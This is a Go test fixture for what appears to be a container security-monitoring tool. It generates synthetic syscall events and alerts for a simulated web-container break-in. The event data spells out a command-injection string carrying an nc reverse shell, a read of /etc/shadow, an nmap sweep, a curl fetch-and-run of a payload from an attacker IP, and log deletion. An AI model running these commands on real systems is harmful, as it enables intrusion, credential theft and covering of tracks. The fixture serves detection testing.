package tuitest

import (
	"fmt"
	"time"

	"github.com/stoop-project/stoop/internal/event"
)

// Scene is half a minute on a node with four containers, one of which is
// broken into: a web service is made to run a shell that calls home, looks
// around and covers its tracks. It has about 300 events, six of them alerts.
func Scene() *event.Batch {
	w := NewWorld()
	host := w.Host()
	web := w.Container("6cf4be7b2388", "web", "web-0", "shop", "docker.io/shop/web:2.4.1")
	api := w.Container("b20d7c11a9e4", "api", "api-7d9c5-x2k8p", "shop", "docker.io/shop/api:1.18.0")
	db := w.Container("91ee03c4fa57", "postgres", "db-0", "shop", "docker.io/library/postgres:17.2")
	cache := w.Container("3fd8a0b61c22", "redis", "cache-5c6b9", "shop", "docker.io/library/redis:7.4")

	init := w.Proc(0, host, 1, 0, "root", "/usr/lib/systemd/systemd")
	shim := w.Proc(init, 0, 3101, 0, "root", "/usr/bin/containerd-shim-runc-v2", "-namespace", "k8s.io")
	cast := cast{
		w:      w,
		python: w.Proc(shim, web, 4410, 33, "www-data", "/usr/bin/python3", "/srv/app.py", "--port", "8080"),
		api:    w.Proc(shim, api, 4522, 1000, "app", "/app/server", "-listen", ":9000"),
		pg:     w.Proc(shim, db, 4633, 999, "postgres", "/usr/lib/postgresql/17/bin/postgres"),
		redis:  w.Proc(shim, cache, 4744, 999, "redis", "/usr/bin/redis-server", "*:6379"),
		sshd:   w.Proc(init, 0, 911, 0, "root", "/usr/sbin/sshd", "-D"),
	}
	for i := range 20 {
		cast.everyday(i)
	}
	cast.breakIn()
	for i := range 20 {
		cast.everyday(20 + i)
	}
	return w.Take()
}

// cast is who plays in the scene.
type cast struct {
	w                            *World
	python, api, pg, redis, sshd event.ProcID
}

// everyday is half a second of ordinary work.
func (c cast) everyday(i int) {
	w := c.w
	sock := w.Conn(fmt.Sprintf("10.4.0.12:%d", 40100+i), "10.4.0.31:5432")
	w.Do(c.api, "connect", sock, 0)
	w.Do(c.pg, "accept4", w.Accepted("10.4.0.31:5432", fmt.Sprintf("10.4.0.12:%d", 40100+i)), 11)
	w.Do(c.pg, "openat", w.File(fmt.Sprintf("/var/lib/postgresql/data/base/16384/%d", 2600+i)), 12, "flags", uint64(2), "name", "base/16384/"+fmt.Sprint(2600+i))
	w.Wait(90 * time.Millisecond)
	w.Do(c.python, "openat", w.File("/srv/templates/cart.html"), 7, "flags", uint64(0), "name", "/srv/templates/cart.html")
	w.Do(c.redis, "openat", w.File("/data/temp-4744.rdb"), 8, "flags", uint64(0o1101), "name", "temp-4744.rdb")
	if i%5 == 0 {
		w.Do(c.sshd, "openat", 0, -2, "flags", uint64(0), "name", "/root/.ssh/authorized_keys2")
	}
	w.Do(c.redis, "rename", w.File("/data/dump.rdb"), 0, "oldpath", "/data/temp-4744.rdb", "newpath", "/data/dump.rdb")
	w.Wait(time.Duration(210+i*13%170) * time.Millisecond)
}

// breakIn is the incident.
func (c cast) breakIn() {
	w := c.w
	sh := w.Proc(c.python, 0, 5901, 33, "www-data", "/bin/sh", "-c", "convert '; nc.traditional -e /bin/bash 10.4.9.66 4444 #'")
	w.Do(sh, "execve", w.File("/bin/sh"), 0)
	w.Wait(12 * time.Millisecond)
	nc := w.Image(w.Proc(sh, 0, 5902, 33, "www-data", "/bin/sh"), "/usr/bin/nc.traditional", "-e", "/bin/bash", "10.4.9.66", "4444")
	w.Do(nc, "execve", w.File("/usr/bin/nc.traditional"), 0)
	call := w.Conn("10.4.0.17:37352", "10.4.9.66:4444")
	w.Do(nc, "connect", call, 0)
	w.Do(nc, "dup2", call, 0)
	w.Alert(nc, "dup2", call, "Redirect STDOUT/STDIN to Network Connection in Container", event.PriorityNotice, "network", "mitre_execution")
	bash := w.Image(nc, "/bin/bash")
	w.Do(bash, "execve", w.File("/bin/bash"), 0)
	w.Wait(1900 * time.Millisecond)

	pid := int32(5910)
	run := func(cmdline ...string) event.ProcID {
		pid++
		w.Wait(850 * time.Millisecond)
		p := w.Proc(bash, 0, pid, 33, "www-data", cmdline...)
		w.Do(p, "execve", w.File(cmdline[0]), 0)
		return p
	}
	run("/usr/bin/id")
	cat := run("/usr/bin/cat", "/etc/shadow")
	w.Do(cat, "openat", w.File("/etc/shadow"), -13, "flags", uint64(0), "name", "/etc/shadow")
	w.Alert(cat, "openat", w.File("/etc/shadow"), "Read sensitive file untrusted", event.PriorityWarning, "filesystem", "mitre_credential_access")
	scan := run("/usr/bin/nmap", "-sT", "-p", "22,5432,6379", "10.4.0.0/24")
	w.Alert(scan, "execve", 0, "Launch Suspicious Network Tool in Container", event.PriorityNotice, "network", "mitre_discovery")
	for i := range 9 {
		res := int64(-111)
		if i == 4 {
			res = 0
		}
		w.Do(scan, "connect", w.Conn(fmt.Sprintf("10.4.0.17:%d", 50200+i), fmt.Sprintf("10.4.0.%d:5432", 27+i)), res)
	}
	curl := run("/usr/bin/curl", "-s", "-H", "Authorization: Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJhZG1pbiJ9.s5Ff0c", "http://10.4.9.66/x", "-o", "/tmp/.x")
	w.Do(curl, "connect", w.Conn("10.4.0.17:41022", "10.4.9.66:80"), 0)
	w.Do(curl, "openat", w.File("/tmp/.x"), 5, "flags", uint64(0o1101), "name", "/tmp/.x")
	w.Do(run("/usr/bin/chmod", "+x", "/tmp/.x"), "fchmodat", w.File("/tmp/.x"), 0, "filename", "/tmp/.x", "mode", uint64(0o755))
	x := run("/tmp/.x")
	w.Alert(x, "execve", w.File("/tmp/.x"), "Drop and execute new binary in container", event.PriorityCritical, "mitre_persistence")
	rm := run("/usr/bin/rm", "-f", "/var/log/nginx/access.log")
	w.Do(rm, "unlinkat", w.File("/var/log/nginx/access.log"), 0, "name", "/var/log/nginx/access.log")
	w.Alert(rm, "unlinkat", w.File("/var/log/nginx/access.log"), "Clear Log Activities", event.PriorityWarning, "file", "mitre_defense_evasion")
	w.Wait(600 * time.Millisecond)
	w.Alert(bash, "execve", 0, "Terminal shell in container", event.PriorityNotice, "shell", "mitre_execution")
}
